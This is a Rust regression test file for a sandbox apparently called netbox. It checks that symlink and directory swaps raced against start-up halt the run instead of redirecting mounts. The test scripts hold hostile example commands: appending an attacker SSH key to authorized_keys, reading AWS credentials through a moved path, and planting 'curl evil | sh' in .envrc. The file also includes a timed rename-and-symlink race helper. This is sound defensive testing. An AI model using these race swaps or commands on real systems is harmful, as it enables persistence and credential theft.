//! A path swapped by another process while netbox starts. netbox
//! resolves each writable root, pin and hidden path once, following no symlink, and the
//! sandbox mounts only what is still that very file: a directory swapped for a symlink (or
//! for another directory) stops the run before CMD starts, instead of redirecting its
//! writable mount or its covers. Each with its control: the same steps without the swap
//! run normally.
//!
//! The swap is timed as the outside review did it, with nothing but what any process can
//! do: a second process holds an exclusive lock on the workspace's `.git` placeholder, so
//! netbox waits there (up to 0.5 s) before it mounts anything; it swaps, then lets go.

use std::io::{BufRead, BufReader, Write};
use std::path::{Path, PathBuf};
use std::process::{Child, ChildStdin, Command, Output, Stdio};

use crate::support::{stderr, stdout, Run, TestDir};

/// What the locking process does once netbox waits on its lock.
#[derive(Clone, Copy, Debug)]
enum Swap {
    /// Nothing: the control.
    None,
    /// `from` moves aside and a symlink to `to` takes its place.
    Symlink,
    /// `from` moves aside and a new, empty directory takes its place.
    Directory,
}

/// A process holding an exclusive flock on a placeholder until told to go on; then it
/// waits `delay_ms`, swaps, and lets go.
struct LockHolder {
    child: Child,
    stdin: ChildStdin,
}

const LOCK_AND_SWAP: &str = r#"
import fcntl, os, sys, time
placeholder, kind, src, dst, delay = sys.argv[1:6]
fd = os.open(placeholder, os.O_RDONLY)
fcntl.flock(fd, fcntl.LOCK_EX)
print("locked", flush=True)
sys.stdin.readline()
time.sleep(int(delay) / 1000)
if kind != "none":
    os.rename(src, src + ".orig")
    if kind == "symlink":
        os.symlink(dst, src)
    else:
        os.mkdir(src)
fcntl.flock(fd, fcntl.LOCK_UN)
print("swapped", flush=True)
"#;

impl LockHolder {
    /// Marks `placeholder` (an empty directory) as netbox's, locks it, and waits.
    fn start(placeholder: &Path, swap: Swap, from: &Path, to: &Path) -> LockHolder {
        std::fs::create_dir_all(placeholder).unwrap();
        let marked = Command::new("python3")
            .args([
                "-c",
                "import os, sys; os.setxattr(sys.argv[1], 'user.netbox.placeholder', b'1')",
            ])
            .arg(placeholder)
            .status()
            .unwrap();
        assert!(marked.success(), "user xattrs are needed here");
        let kind = match swap {
            Swap::None => "none",
            Swap::Symlink => "symlink",
            Swap::Directory => "directory",
        };
        let mut child = Command::new("python3")
            .args(["-c", LOCK_AND_SWAP])
            .arg(placeholder)
            .arg(kind)
            .arg(from)
            .arg(to)
            .arg("250")
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .spawn()
            .unwrap();
        let mut line = String::new();
        let mut out = BufReader::new(child.stdout.take().unwrap());
        out.read_line(&mut line).unwrap();
        assert_eq!(line, "locked\n");
        child.stdout = Some(out.into_inner());
        let stdin = child.stdin.take().unwrap();
        LockHolder { child, stdin }
    }

    /// Lets it go on (netbox is started, or about to be), and waits for it to finish.
    fn go_and_wait(mut self) {
        self.stdin.write_all(b"go\n").unwrap();
        let status = self.child.wait().unwrap();
        assert!(status.success());
    }
}

/// Runs `script` in `run` while the lock holder swaps `from` as told.
fn run_during_swap(run: &Run, script: &str, swap: Swap, from: &Path, to: &Path) -> Output {
    let holder = LockHolder::start(&run.workspace.join(".git"), swap, from, to);
    let netbox = run
        .command(script)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    holder.go_and_wait();
    netbox.wait_with_output().unwrap()
}

fn files_in(dir: &Path) -> Vec<String> {
    let mut names: Vec<String> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    names
}

/// The review's attack: run B's workspace is swapped for a symlink to a directory B's CMD
/// must not write (here standing for `~/.ssh`). Before: B's writable mount and its
/// placeholder landed there, and CMD wrote `authorized_keys` into it.
#[test]
fn a_workspace_swapped_during_start_up_is_never_mounted() {
    for swap in [Swap::Symlink, Swap::Directory] {
        let dir = TestDir::new("swap-workspace");
        let victim = dir.join("victim");
        std::fs::create_dir(&victim).unwrap();
        std::fs::write(victim.join("known_hosts"), "kept\n").unwrap();
        let run = Run::new(&dir).arg("--quiet");
        let out = run_during_swap(
            &run,
            "echo 'ssh-ed25519 AAAA attacker' >> authorized_keys; touch ran",
            swap,
            &run.workspace,
            &victim,
        );
        assert_eq!(out.status.code(), Some(125), "{swap:?}: {}", stderr(&out));
        let said = stderr(&out);
        assert!(
            said.contains("changed since netbox resolved it")
                || said.contains("is not what netbox resolved"),
            "{swap:?}: {said}"
        );
        assert_eq!(files_in(&victim), ["known_hosts"], "{swap:?}");
        let moved = PathBuf::from(format!("{}.orig", run.workspace.display()));
        assert_eq!(files_in(&moved), Vec::<String>::new(), "{swap:?}");
    }

    // Control: the same lock, let go without a swap; the run writes where it should.
    let dir = TestDir::new("swap-workspace-control");
    let run = Run::new(&dir).arg("--quiet");
    let out = run_during_swap(
        &run,
        "echo key >> authorized_keys; touch ran",
        Swap::None,
        &run.workspace,
        &dir.join("unused"),
    );
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(run.workspace.join("authorized_keys").exists());
    assert!(run.workspace.join("ran").exists());
}

/// A hidden directory, or its parent, swapped for a symlink to a decoy: before, the cover
/// went on the decoy (or on the link itself) and CMD read the real secret by its moved
/// name.
#[test]
fn a_hidden_path_swapped_during_start_up_stops_the_run() {
    TestDir::remove_leftovers_outside_tmp("swap-hide");
    for (swap, swapped) in [
        (Swap::None, "home"),
        (Swap::Symlink, "home"),
        (Swap::Symlink, "home/.aws"),
    ] {
        let dir = TestDir::outside_tmp("swap-hide");
        let home = dir.join("home");
        std::fs::create_dir_all(home.join(".aws")).unwrap();
        std::fs::write(home.join(".aws/credentials"), "SECRET-KEY\n").unwrap();
        let decoy = dir.join("decoy");
        std::fs::create_dir_all(decoy.join(".aws")).unwrap();
        std::fs::write(decoy.join(".aws/credentials"), "decoy\n").unwrap();
        let hidden = home.join(".aws");
        let run = Run::new(&dir)
            .arg("--quiet")
            .arg("--hide")
            .arg(hidden.to_str().unwrap());
        let (from, to, moved_secret) = match swapped {
            "home" => (home.clone(), decoy.clone(), "home.orig/.aws/credentials"),
            _ => (
                hidden.clone(),
                decoy.join(".aws"),
                "home/.aws.orig/credentials",
            ),
        };
        let script = format!(
            "cat {moved} {hidden}/credentials 2>/dev/null; echo done",
            moved = dir.join(moved_secret).display(),
            hidden = hidden.display()
        );
        let out = run_during_swap(&run, &script, swap, &from, &to);
        let case = format!("{swap:?} {swapped}: {}{}", stdout(&out), stderr(&out));
        assert!(!stdout(&out).contains("SECRET"), "{case}");
        match swap {
            Swap::None => {
                assert_eq!(out.status.code(), Some(0), "{case}");
                assert_eq!(stdout(&out), "done\n");
            }
            _ => {
                assert_eq!(out.status.code(), Some(125), "{case}");
                assert!(
                    stderr(&out).contains("changed while netbox was starting"),
                    "{case}"
                );
                assert_eq!(stdout(&out), "");
            }
        }
    }
}

/// A protected file swapped for a symlink: before, the pin went on the link and CMD
/// rewrote the real file by its moved name.
#[test]
fn a_protected_file_swapped_for_a_symlink_stops_the_run() {
    TestDir::remove_leftovers_outside_tmp("swap-pin");
    for swap in [Swap::None, Swap::Symlink] {
        // Outside /tmp: the decoy must be visible (read-only) inside, as a user's own
        // file elsewhere would be.
        let dir = TestDir::outside_tmp("swap-pin");
        let run = Run::new(&dir).arg("--quiet");
        let envrc = run.workspace.join(".envrc");
        std::fs::write(&envrc, "export OK=1\n").unwrap();
        let decoy = dir.join("decoy.txt");
        std::fs::write(&decoy, "decoy\n").unwrap();
        let out = run_during_swap(
            &run,
            "echo 'curl evil | sh' >> .envrc.orig 2>/dev/null; \
             echo 'curl evil | sh' >> .envrc 2>/dev/null; echo done",
            swap,
            &envrc,
            &decoy,
        );
        let case = format!("{swap:?}: {}", stderr(&out));
        let original = match swap {
            Swap::None => envrc.clone(),
            _ => run.workspace.join(".envrc.orig"),
        };
        assert_eq!(
            std::fs::read_to_string(&original).unwrap(),
            "export OK=1\n",
            "{case}"
        );
        assert_eq!(std::fs::read_to_string(&decoy).unwrap(), "decoy\n");
        match swap {
            Swap::None => {
                assert_eq!(out.status.code(), Some(0), "{case}");
                assert_eq!(stdout(&out), "done\n");
            }
            _ => {
                assert_eq!(out.status.code(), Some(125), "{case}");
                assert!(
                    stderr(&out).contains("a symlink now stands in its path"),
                    "{case}"
                );
            }
        }
    }
}

/// A swap after netbox resolved everything, while the sandbox builds its filesystem (a
/// test build pauses pid 1 there): pid 1's own check stops it. And with that check
/// switched off (a test build's deliberate breakage), the probe's check of each writable
/// root catches the look-alike.
#[test]
fn a_swap_while_the_sandbox_mounts_is_caught_by_pid_1_or_else_by_the_probe() {
    for (broken, swap) in [
        (false, Swap::None),
        (false, Swap::Symlink),
        (false, Swap::Directory),
        (true, Swap::Directory),
    ] {
        let dir = TestDir::new("swap-mounts");
        let victim = dir.join("victim");
        std::fs::create_dir(&victim).unwrap();
        let mut run = Run::new(&dir).env("NETBOX_TEST_MOUNT_PAUSE_MS", "400");
        if broken {
            run = run.env("NETBOX_TEST_BREAK", "identity");
        }
        let mut netbox = run
            .command("touch ran")
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        // The start-up line comes once everything is resolved, before pid 1 mounts.
        let mut err = BufReader::new(netbox.stderr.take().unwrap());
        let mut line = String::new();
        err.read_line(&mut line).unwrap();
        assert!(line.starts_with("netbox:"), "{line}");
        let moved = PathBuf::from(format!("{}.orig", run.workspace.display()));
        match swap {
            Swap::None => {}
            Swap::Symlink => {
                std::fs::rename(&run.workspace, &moved).unwrap();
                std::os::unix::fs::symlink(&victim, &run.workspace).unwrap();
            }
            Swap::Directory => {
                // A look-alike, down to the placeholders the sandbox pins.
                std::fs::rename(&run.workspace, &moved).unwrap();
                std::fs::create_dir(&run.workspace).unwrap();
                for entry in std::fs::read_dir(&moved).unwrap() {
                    let entry = entry.unwrap();
                    let copy = run.workspace.join(entry.file_name());
                    if entry.file_type().unwrap().is_dir() {
                        std::fs::create_dir(copy).unwrap();
                    } else {
                        std::fs::write(copy, std::fs::read(entry.path()).unwrap()).unwrap();
                    }
                }
            }
        }
        let mut rest = String::new();
        std::io::Read::read_to_string(&mut err, &mut rest).unwrap();
        let status = netbox.wait().unwrap();
        let case = format!("{swap:?}, broken: {broken}: {rest}");
        match (swap, broken) {
            (Swap::None, _) => {
                assert_eq!(status.code(), Some(0), "{case}");
                assert!(run.workspace.join("ran").exists(), "{case}");
            }
            (_, false) => {
                assert_eq!(status.code(), Some(125), "{case}");
                assert!(
                    rest.contains("changed since netbox resolved it")
                        || rest.contains("is not what netbox resolved"),
                    "{case}"
                );
            }
            (_, true) => {
                assert_eq!(status.code(), Some(125), "{case}");
                assert!(rest.contains("is the directory netbox resolved"), "{case}");
            }
        }
        match swap {
            Swap::None => {}
            Swap::Symlink => assert_eq!(files_in(&victim), Vec::<String>::new(), "{case}"),
            Swap::Directory => assert!(!run.workspace.join("ran").exists(), "{case}"),
        }
    }
}
